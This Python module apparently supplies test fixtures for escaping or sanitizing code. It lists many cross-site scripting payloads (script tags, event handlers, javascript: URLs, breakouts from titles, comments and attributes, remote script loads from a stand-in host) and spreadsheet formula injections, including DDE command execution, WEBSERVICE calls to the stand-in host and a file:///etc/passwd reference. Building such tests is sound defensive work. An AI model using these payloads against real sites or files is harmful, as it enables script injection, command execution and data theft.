"""Two classes of strings that mean more than they say: mark-up that would run, and formulas.

Each string of :data:`MARKUP` calls ``alert`` or asks ``asked.example`` for something where a page
takes it for mark-up in one of the places where texts stand: between tags, in a title, a style, a
drawing, a comment, or an attribute in either kind of quotes or in none.
"""

from __future__ import annotations

__all__ = ["FORMULAS", "MARKUP"]

_ASKED = "https://asked.example"

_BETWEEN_TAGS = (
    "<script>alert(7)</script>",
    "<ScRiPt>alert(7)</sCrIpT>",
    "<script/x>alert(7)</script\t>",
    "<script\n>alert(7)</script\n>",
    "<script>alert(7)//",
    "<script>alert`7`</script>",
    f"<script src={_ASKED}/a.js></script>",
    f"<script type=module>import('{_ASKED}/m.js')</script>",
    "<img src=x onerror=alert(7)>",
    "<img src=x onerror='alert(7)'",
    "<img/src='x'/onerror=alert(7)>",
    "<IMG SRC=x OnErRoR=alert(7)>",
    "<img src=x onerror=&#97;lert(7)>",
    '<img src=x onerror="alert&lpar;7&rpar;">',
    f"<img src={_ASKED}/i.png>",
    f"<img srcset='{_ASKED}/i.png 1x'>",
    f"<picture><source srcset={_ASKED}/i.png><img></picture>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><script>alert&#40;7)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(7) attributeName=x to=1>",
    f"<svg><image href={_ASKED}/i.png></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(7)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(7)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(7)></style></svg>",
    "<math><mtext></mtext><style><img src=x onerror=alert(7)></style></math>",
    "<math href=javascript:alert(7)>x</math>",
    "<body onload=alert(7)>",
    "<body onpageshow=alert(7)>",
    "<input autofocus onfocus=alert(7)>",
    "<select autofocus onfocus=alert(7)></select>",
    "<textarea autofocus onfocus=alert(7)></textarea>",
    "<details open ontoggle=alert(7)><summary>x</summary></details>",
    "<video src=x onerror=alert(7)></video>",
    "<video><source src=x onerror=alert(7)></video>",
    "<audio src=x onerror=alert(7)></audio>",
    "<marquee onstart=alert(7)>x</marquee>",
    "<div style='animation:a' onanimationstart=alert(7)>x</div>",
    "<p onmouseover=alert(7)>x</p>",
    "<a href=javascript:alert(7)>x</a>",
    "<a href='java\tscript:alert(7)'>x</a>",
    "<a href='&#106;avascript:alert(7)'>x</a>",
    f"<a href={_ASKED} ping={_ASKED}/p>x</a>",
    "<iframe src=javascript:alert(7)></iframe>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(7)&lt;/script&gt;'></iframe>",
    f"<iframe src={_ASKED}/f.html></iframe>",
    "<object data=javascript:alert(7)></object>",
    f"<object data={_ASKED}/o.swf></object>",
    f"<embed src={_ASKED}/e.swf>",
    f"<link rel=stylesheet href={_ASKED}/x.css>",
    f"<link rel=prefetch href={_ASKED}/x>",
    f"<style>@import '{_ASKED}/x.css';</style>",
    f"<style>body{{background:url({_ASKED}/b.png)}}</style>",
    f"<p style='background:url({_ASKED}/b.png)'>x</p>",
    f"<base href={_ASKED}>",
    f"<meta http-equiv=refresh content='0;url={_ASKED}'>",
    f"<form action={_ASKED}><button autofocus onfocus=alert(7)>x</button></form>",
    "<template><script>alert(7)</script></template><img src=x onerror=alert(7)>",
)  # fmt: skip

_OUT_OF_A_PLACE = (
    "</title><script>alert(7)</script>",
    "</style><script>alert(7)</script>",
    "</textarea><script>alert(7)</script>",
    "</desc></svg><img src=x onerror=alert(7)>",
    "</text></svg><script>alert(7)</script>",
    "<!--><img src=x onerror=alert(7)>-->",
    "--><img src=x onerror=alert(7)><!--",
    "--!><script>alert(7)</script>",
    "<![CDATA[<script>alert(7)</script>]]>",
    "]]><script>alert(7)</script>",
    "<?xml version='1.0'?><script>alert(7)</script>",
    '"><script>alert(7)</script>',
    "'><script>alert(7)</script>",
    '" autofocus tabindex=1 onfocus="alert(7)',
    "' autofocus tabindex=1 onfocus='alert(7)",
    "x autofocus tabindex=1 onfocus=alert(7)",
    "javascript:alert(7)",
)

MARKUP = _BETWEEN_TAGS + _OUT_OF_A_PLACE

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\uff1d", "'=")
_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://asked.example","x")',
    'WEBSERVICE("http://asked.example")',
    'DDE("cmd";"/C calc";"x")',
    "'file:///etc/passwd'#$x.A1",
    "A1",
    '"x"',
)

FORMULAS = tuple(lead + body for body in _BODIES for lead in _LEADS)
"""Every way to begin a formula, before everything that one may do."""
